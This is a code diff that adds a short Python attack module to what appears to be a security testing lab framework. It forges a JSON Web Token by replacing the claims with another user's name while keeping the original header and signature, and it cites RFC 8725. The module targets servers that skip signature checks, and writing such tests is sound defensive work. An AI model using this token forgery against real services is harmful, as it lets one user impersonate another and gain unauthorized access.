@@ -1,0 +1,20 @@
+"""Put someone else's name into your own token.
+
+Exploits a server that reads the claims, but does not check the signature.
+Source: RFC 8725, section 3.3 Validate All Cryptographic Operations,
+https://www.rfc-editor.org/rfc/rfc8725#section-3.3
+"""
+
+import json
+
+from attacks.forge import claims_about, encode
+from attacks.lab import Outcome, Target, attack, judge
+
+
+@attack(door="token-unchecked")
+def run(target: Target) -> Outcome:
+    """Change the middle part, and keep the other two."""
+    victim = target.enrol()
+    header, _, signature = target.token_of(target.enrol()).split(".")
+    claims = encode(json.dumps(claims_about(victim.username)).encode())
+    return judge({"another name": target.read(f"{header}.{claims}.{signature}")})
